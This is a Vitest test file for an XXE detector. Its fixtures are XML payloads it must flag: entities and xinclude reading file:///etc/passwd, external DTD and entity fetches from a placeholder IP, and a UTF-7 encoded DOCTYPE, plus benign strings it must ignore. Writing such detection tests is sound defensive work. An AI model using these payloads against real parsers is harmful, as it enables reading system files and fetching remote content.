import { describe, expect, it } from 'vitest';
import { wordsFound } from '../testing/words-found.ts';
import { detectXxe } from './detect-xxe.ts';

describe('detectXxe', () => {
  it.each([
    [
      'entity-declaration',
      '<?xml version="1.0" encoding="UTF-7"?>\n+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ENTITY x',
    ],
    ['entity-declaration', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'],
    ['entity-declaration', '<!ENTITY % p SYSTEM "http://192.0.2.1">'],
    ['external-doctype', '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://192.0.2.1/a.dtd">'],
    ['xinclude', '<xi:include href="file:///etc/passwd"/>'],
    ['xinclude', '<?xml-stylesheet href="http://192.0.2.1/a.xsl"?>'],
  ])('finds %s', (why, text) => {
    expect(wordsFound(detectXxe, text)).toEqual([why]);
  });

  it.each(['<!DOCTYPE html>', '<?xml version="1.0"?>', '<doctype>'])('leaves %s alone', (text) => {
    expect(wordsFound(detectXxe, text)).toEqual([]);
  });
});
